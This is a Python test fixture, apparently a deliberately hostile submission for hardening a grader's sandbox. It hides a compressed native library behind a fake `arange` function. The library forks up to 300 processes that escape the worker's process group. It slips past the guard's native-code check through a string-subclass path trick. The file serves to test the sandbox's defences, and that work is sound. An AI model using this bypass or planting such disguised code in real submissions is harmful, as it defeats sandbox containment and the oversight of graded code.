"""Hostile submission: forks from native code, past the guard and any process limit.

``fork()`` in C raises no audit event, and the runner sets no ``RLIMIT_NPROC`` for root. It
writes the library below into its working folder and loads it as an extension module past
the guard's native-code check: its origin is a ``str`` subclass whose ``[1:]`` makes the
guard's realpath name a file in Python's own folder (see ``fspath_trick.py``). The
constructor forks 300 children (``$FORKS``, capped at 300) that let go of the grader's pipe,
sleep 30 s and exit, and writes ``/tmp/torchlab-escape-native_fork-<n>``, n the forks that
succeeded. They outlive the worker: the runner kills its process group only if the worker is
still running. The guard must refuse to load the library, the worker must have a process
limit that holds for root (a cgroup's pids.max) and nothing may outlive it; the score is 0.

The library (x86_64 Linux; ``gcc -Os -s -shared -fPIC -nostartfiles -fno-asynchronous-unwind-tables
-Wl,--build-id=none,-z,noseparate-code,-z,norelro``, then ``objcopy -R .comment``)::

    #include <stdio.h>
    #include <stdlib.h>
    #include <fcntl.h>
    #include <unistd.h>
    __attribute__((constructor)) static void run(void) {
        int n = getenv("FORKS") ? atoi(getenv("FORKS")) : 0, made = 0;
        for (n = n > 300 ? 300 : n; made < n; made++) {
            pid_t pid = fork();
            if (pid < 0) break;
            if (pid == 0) {  /* let go of the grader's pipe, wait 30 s, leave */
                for (int fd = 3; fd < 1024; fd++) close(fd);
                sleep(30);
                _exit(0);
            }
        }
        char path[64], buf[64];
        snprintf(path, sizeof path, "/tmp/torchlab-escape-native_fork-%d", made);
        int len = snprintf(buf, sizeof buf, "%d of %d forks from C succeeded\n", made, n);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd >= 0) { write(fd, buf, len); close(fd); }
    }
"""

import base64
import contextlib
import importlib.machinery
import importlib.util
import os
import sys
import zlib

LIBRARY = (
    "eNqtVkFsG0UUHa+TNCmCRCWhhdLiAy6XZlNbapVyQLYrgkusENoGIUrlbOxxvWB7rd1xiA9AghSJFYrEsXCKRLn3iEAqFm"
    "nhGoFAkRAKQmrxClB6gEoIVDOz+R/PjrwKSP1R9vm9P3925s+f2Xn72dyUFokQtCh5hnQZISnAkUFZmyR9/DlChv22/STc"
    "rvQHkQf5JuIGZP9YENuRIGKcBnHrELc+FsTlSBBx2C/eYsUB8t8NXuePE///j4n2B3royRA9FqIfCNGPheiHQ/TBEP14iP"
    "5giE4uU0Zri8RglklKlv06cWp126yxErHqtEbesE1GSaFiOZQ4FUrrJE+XTEYq5kJBdyz9FHkudzZzJp/Uk/pJfz3VP8xf"
    "hFdZdx0aj5lDonWGBOsE13e2bxcnD+7iPmXNUpKuSXpW0qOSPivpfZL+sqTLdT8v6XKdlSV9n6TXJV3aWmRJ0od6pL9z0n"
    "6YP+OMP4efSPFfgpeFy/uxwy3+muBi6t6mzxcEF1P2Wj5/RXAxVe+az88JLqborfv8ecHF1Lz3fZ4RXEzJW/b504KL4Xl1"
    "nycFF1Pw5jlNz6UvzJ3Prh3ZEcl1t7Mrv74rtvEF7su6XyRa2dWv2Qh3tDO+8lX7Q46fHucDPr3pfjM8s5X47fQPbw61P+"
    "LyaqtZPevecr3s2tjHvJdE67o4j3LuTm6t+GSqPSFe6G65ni/zRld978+JVntU9HqV93o9rfkR7k2uHuWqu7HaWprKFr7N"
    "ubf567+/x6Xt9u8cfjnReOozkRl3u7PR/okrK3+JxW/sfH5UzIHw6ESn/QF3dG56L4nxr9wQs7t4Kf1q+tLG1Avnps+TCV"
    "atTzDLLpQrxsI4dQpGnY7XDGYu0rzYMOPxIokXY1Ypxp9CcGIl26rGzsScRqFAaZEW93frGWt4EvBRpf4Pk+A++ONex/LP"
    "EwjEGj0BRY+1mQL/fuAzgA8AHvr3ewDn08Hu+StsC3CUdOtVGDQjm1pQ/0QLjhP7H1I4z60//ivQvgMc83AH+Fvg/1Px32"
    "/D74pqX0JivgO8DXgXcADW7xHAY4CnAKfwUNGdssNsZiwQ/XKtoZcNp0z0YrPmNKu7yOxdzyK1HdOqBUie+2xaMURD+FWv"
    "MKIzusSftlU0mEF0Ws6XbKNKiW7WTJY3bNto+n0bVbPA+7OYH3VfTNTPXb4mWCdYh4iPk2AdDSrxY9CHptQp4h2pLiM96u"
    "kI+DSl7hFnenynZYtDzWE81hniqDJ+FZNQw8ixjhFjIeNHS8P3RlP2DeKhkPyhPg3xGWUfIm5J8Q/1iJ+V7mbCrkWDuB5y"
    "T0KcU+LxHEP8e4/8XwQtCTzXH8TpkHjEAvzWwu6fPe5FslUhL1HlnMX4wZB4xCbMPaqcH3hfxXtpVInD/L0D41fP3RgcpP"
    "N7vD+i3GPQliH+vT3y/w+8cnsD"
)


class Sly(str):  # realpath reads a library in Python's own folder; dlopen, the real path
    def __getitem__(self, key):
        fake = sys.base_prefix.lstrip("/") + "/lib/python-native.so"
        return fake if key == slice(1, None) else str.__getitem__(self, key)


def _load(name):
    path = os.path.abspath(name + ".so")  # its own working folder: allowed
    with open(path, "wb") as f:
        f.write(zlib.decompress(base64.b64decode("".join(LIBRARY))))
    loader = importlib.machinery.ExtensionFileLoader(name, Sly(path))
    with contextlib.suppress(ImportError):  # dlopen ran the constructor; it has no PyInit_
        importlib.util.module_from_spec(importlib.util.spec_from_loader(name, loader))


_done: list[bool] = []


def arange(*args, **kwargs):
    if not _done:
        _done.append(True)
        os.environ["FORKS"] = "300"
        _load("native_fork")
    raise NotImplementedError("arange: native code forked")
